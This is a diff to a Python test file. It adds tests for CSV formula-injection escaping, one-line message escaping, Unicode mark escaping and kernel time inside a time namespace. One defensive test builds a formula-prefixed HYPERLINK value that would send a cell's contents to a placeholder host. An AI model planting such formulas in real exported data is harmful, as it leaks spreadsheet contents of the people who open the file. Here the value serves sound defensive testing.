@@ -7,6 +7,7 @@ import io
 import json
 import os
 import re
+import subprocess
 import time
 
 import hypothesis
@@ -17,9 +18,12 @@ from pytools.tool import arguments
 from pytools.tool.waiting import intervals
 from pytools.base.errors import Failure
 from pytools.show.output import Clock, Output
-from pytools.base.text import csv_field, escape, escape_lines, json_text, text_of
+from support import ROOT
+from pytools.base.text import csv_field, escape, escape_line, json_text, text_of
 
 pytestmark = pytest.mark.rendering
+
+FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20"  # what a spreadsheet takes for the start of one
 
 
 @pytest.mark.parametrize(
@@ -72,15 +76,56 @@ def test_csv_fields_stay_fields(values: list[bytes]) -> None:
     assert line.isprintable()
     if len(values) > 1 or values[0]:
         (row,) = csv.reader(io.StringIO(line + "\n"))
-        assert row == [escape(text_of(value)) for value in values]
+        shown = [escape(text_of(value)) for value in values]
+        # A character that would begin a formula is an escape; see below.
+        assert [
+            field
+            if not text or text[0] not in FORMULA
+            else text[0] + field[len(field) - len(text) + 1 :]
+            for field, text in zip(row, shown)
+        ] == shown
 
 
 def test_csv_has_numbers_raw_and_nothing_for_none() -> None:
     assert [csv_field(value) for value in (None, 0, -1, 1.5)] == ["", "0", "-1", "1.5"]
 
 
-def test_messages_keep_their_lines_but_no_control_characters() -> None:
-    assert escape_lines("one\n\ttwo\x1b[31m \\n") == "one\n\ttwo\\x1b[31m \\n"
+def test_a_message_is_one_line_without_control_characters() -> None:
+    assert escape_line("one\n\ttwo\x1b[31m \\n \udcff") == "one\\x0a\ttwo\\x1b[31m \\n \\xff"
+
+
+@hypothesis.given(st.text())
+def test_any_message_is_one_line(text: str) -> None:
+    assert escape_line(text).replace("\t", "").isprintable()
+
+
+@pytest.mark.parametrize(
+    "text, shown",
+    [
+        ("e\u0301te\u0301", "e\u0301te\u0301"),  # as macOS has it
+        ("\u0e01\u0e34\u0e48", "\u0e01\u0e34\u0e48"),  # Thai
+        ("\u0301a", "\\u0301a"),  # it would be on the blank before the column
+        ("a" + "\u0300" * 6, "a" + "\u0300" * 4 + "\\u0300" * 2),
+        ("a\u20dd\u0488", "a\u20dd\u0488"),
+        (
+            "\u3164\u115f\u2800\ufe0f\u034f\U000e0100",
+            "\\u3164\\u115f\\u2800\\ufe0f\\u034f\\U000e0100",
+        ),
+    ],
+)
+def test_marks_stand_on_a_character_and_nothing_is_unseen(text: str, shown: str) -> None:
+    assert escape(text) == shown
+
+
+@pytest.mark.parametrize("first", FORMULA)
+def test_no_csv_field_is_a_spreadsheet_s_formula(first: str) -> None:
+    """The data of users, in every tool: file names, arguments, names of commands and hosts."""
+    field = csv_field(first + 'HYPERLINK("http://x/"&A1,"x")')
+    (row,) = csv.reader(io.StringIO(field + "\n"))
+    assert row[0][0] == "\\" and row[0][1] in "xu"
+    # A tab or an end of line before it would be left out by the spreadsheet.
+    assert csv_field("\t=1") == "\\x09=1" and csv_field("\r=1") == "\\x0d=1"
+    assert [csv_field(-1), csv_field(-1.5)] == ["-1", "-1.5"]
 
 
 # Times.
@@ -104,6 +149,19 @@ def test_a_monotonic_time_becomes_the_wall_clock_s() -> None:
     after = clock.rfc3339()
     # Reading two clocks is not one moment: let a millisecond's digits differ.
     assert before[:16] <= between[:16] <= after[:16]
+
+
+@pytest.mark.host_only
+def test_the_kernel_s_time_is_the_same_in_a_time_namespace() -> None:
+    """By the time of the namespace, events would be a day old, and negative seconds since the
+    start; what lasts on a CPU (cpudist) would be left out."""
+    code = "from pytools.base.system import kernel_time; print(kernel_time())"
+    before = time.monotonic_ns()
+    result = subprocess.run(
+        ["unshare", "-T", "--monotonic", "86400", "/usr/bin/python3", "-c", code],
+        capture_output=True, text=True, check=True, cwd=ROOT / "lib",
+    )  # fmt: skip
+    assert before < int(result.stdout) < time.monotonic_ns()
 
 
 # Standard output, as a descriptor.
